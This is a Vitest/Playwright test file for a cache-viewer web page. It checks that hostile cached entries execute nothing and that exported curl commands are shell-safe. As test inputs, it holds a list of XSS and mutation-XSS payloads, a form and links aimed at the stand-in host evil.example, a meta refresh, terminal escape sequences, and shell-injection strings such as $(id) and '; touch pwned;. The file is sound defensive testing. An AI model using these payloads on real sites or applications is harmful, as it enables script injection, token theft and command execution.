import { hash } from "node:crypto";
import { type CacheStore, type JsonObject, putEntry } from "@remem/core";
import { hasChromium, startChromium } from "@remem/test-support/chromium";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { put, user } from "./cache.ts";
import { open, openStore } from "./page.ts";

const SCRIPTS = [
  "<script>window.pwned = 1</script>",
  '<img src=x onerror="window.pwned = 1">',
  "<svg onload=window.pwned=1><style>@import 'https://evil.example/a.css'</style></svg>",
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  "[a link](javascript:window.pwned=1) ![a picture](https://evil.example/pixel.png)",
  '<a href="https://evil.example" onclick="window.pwned = 1">a link</a>',
  '<form action="https://evil.example"><input name=token><button>send</button></form>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/b.png)" class="dialog" id="app">over all</div>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
  "```html\n<script>window.pwned = 1</script>\n```",
].join("\n\n");

const ESCAPES = "\u001b[2J\u001b]0;title\u0007 red \u0000 \u202Eright to left\u202C \u009b31m";

/** An entry as nobody of ours writes it, and with sound digests. */
async function putRaw(store: CacheStore, key: string, answer: string, request: string): Promise<void> {
  const guarded = `1 - ${hash("sha256", request)} ${key}\n${answer}`;
  await putEntry(store, key, `remem/1 ${hash("sha256", guarded)} ${guarded}\n${request}`);
}

const answerOf = (content: string): string =>
  JSON.stringify({
    object: "chat.completion",
    choices: [{ finish_reason: "stop", message: { role: "assistant", content } }],
  });

describe.skipIf(!hasChromium)("a hostile cache", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startChromium();
  });
  afterAll(() => browser.close());

  test("runs no script, loads nothing and leads nowhere, as text and as Markdown", async () => {
    const store = openStore();
    const hostile = `${SCRIPTS}\n\n${ESCAPES}`;
    const key = await put(store, {
      request: {
        model: `<b>${ESCAPES}</b>`,
        messages: [{ role: `user"><script>window.pwned=1</script>`, content: hostile }],
        [`<i>${ESCAPES}`]: hostile,
      },
      facts: { scope: "javascript:window.pwned=1" },
      message: {
        content: hostile,
        reasoning_content: hostile,
        tool_calls: [
          { type: "function", function: { name: SCRIPTS, arguments: JSON.stringify({ [SCRIPTS]: hostile }) } },
        ],
      },
      finishReason: "<u>stop</u>",
    });
    const { page, foreign, complaints, url } = await open(browser, { store });
    await page.locator(".row", { hasText: "<script>" }).click();
    await page.locator(".message.answer").waitFor();
    const answer = page.locator(".message.answer");
    expect(await answer.textContent()).toContain("<script>window.pwned = 1</script>");
    expect(await answer.textContent()).toContain("␛[2J␛]0;title␇ red ␀ \\u202eright to left\\u202c \\u009b31m");
    await page.getByLabel("Markdown").check();
    await answer.locator("pre code").waitFor();
    const allowed = /^(?:P|PRE|CODE|SPAN|STRONG|DIV|EM|BR)$/;
    const inside = await answer
      .locator(".markdown *")
      .evaluateAll((all) => all.map(({ tagName, attributes }) => [tagName, attributes.length] as const));
    expect(inside.filter(([tag, attributes]) => !allowed.test(tag) || attributes > 0)).toEqual([]);
    for (const tab of ["Answer", "curl", "infer", "Test", "Stored"])
      await page.getByRole("tab", { name: tab, exact: true }).click();
    await page.evaluate((to) => location.assign(to), `#/compare?keys=${key},${key}`);
    await page.getByText("The same, word for word.").waitFor();
    await page.evaluate((to) => location.assign(to), "#/overview");
    await page.locator(".stored .figures").waitFor();
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    expect(new URL(page.url()).origin).toBe(new URL(url).origin);
    expect(foreign).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test("a curl command of it runs nothing else in a shell", async () => {
    const store = openStore();
    const key = await put(store, {
      request: { model: "m", messages: [user("it's '; touch pwned; ' $(id) `id` \\ !!")] },
      facts: { scope: "https://x.example/$(id)" },
      message: { content: "x" },
    });
    const { page } = await open(browser, { store }, {}, `#/entry/${key}`);
    await page.getByRole("tab", { name: "curl" }).click();
    const code = (await page.locator(".tab-panel .code").textContent())!;
    expect(code).toContain("curl 'https://api.openai.com/v1/chat/completions'");
    expect(code).toContain(`it'\\''s '\\''; touch`);
  });

  test("an answer of 8 MB and JSON of 20,000 levels are shown as far as a page can", async () => {
    const store = openStore();
    const request: JsonObject = { model: "m", messages: [user("long")] };
    const deep = `${'{"a":['.repeat(10_000)}1${"]}".repeat(10_000)}`;
    const [long, nested, wide, asked] = ["a", "b", "c", "d"].map((letter) => letter.repeat(64)) as [
      string,
      string,
      string,
      string,
    ];
    await putRaw(store, long, answerOf("word ".repeat(1_600_000)), JSON.stringify(request));
    await putRaw(store, nested, deep, JSON.stringify(request));
    await putRaw(
      store,
      wide,
      JSON.stringify({ list: Array.from({ length: 200_000 }, (_, index) => index) }),
      JSON.stringify(request),
    );
    await putRaw(store, asked, answerOf("x"), `{"model":"m","messages":[${deep}]}`);
    const { page, complaints } = await open(browser, { store });
    await page.getByText("4 entries").waitFor();
    const show = (key: string): Promise<void> => page.evaluate((to) => location.assign(to), `#/entry/${key}`);

    await show(long);
    await page.getByText("The first 200,000 of 8,000,000 characters").waitFor();
    await page.getByLabel("Markdown").check();
    await page.locator(".message.answer .markdown").waitFor();

    await show(nested);
    await page.locator(".message.answer .json").waitFor();
    // Opens every level that the page has.
    await page.evaluate(async () => {
      const answer = document.querySelector(".message.answer")!;
      while (!answer.textContent.includes("nested too deeply")) {
        const closed = answer.querySelector<HTMLDetailsElement>("details:not([open])");
        if (closed !== null) closed.open = true;
        await new Promise(requestAnimationFrame);
      }
    });
    await page.locator(".message.answer").getByText("nested too deeply to be shown").waitFor();
    expect(await page.locator(".message.answer details").count()).toBe(64);

    await show(wide);
    await page.locator(".message.answer").getByRole("button", { name: "more" }).waitFor();
    await page.getByRole("tab", { name: "Answer" }).click();
    await page.getByText("Parts are left out.").waitFor();

    await show(asked);
    await page.locator(".message.answer").waitFor();
    expect(complaints).toEqual([]);
  });

  test("entries that are damaged or of a later version are told, and shown as they are stored", async () => {
    const store = openStore();
    await store.set("e".repeat(64), "no entry at all <b>");
    await store.set("f".repeat(64), `remem/9 ${"0".repeat(64)} x\n{}`);
    const { page } = await open(browser, { store, mayDelete: true });
    await page.getByText("2 entries").waitFor();
    await page.locator(".row", { hasText: "newer: a later version of remem has written it" }).waitFor();
    await page.locator(".row", { hasText: "damaged: it is no entry of remem" }).click();
    await page.getByText("This entry is never a hit").waitFor();
    expect(await page.locator(".code").textContent()).toBe("no entry at all <b>");
  });
});
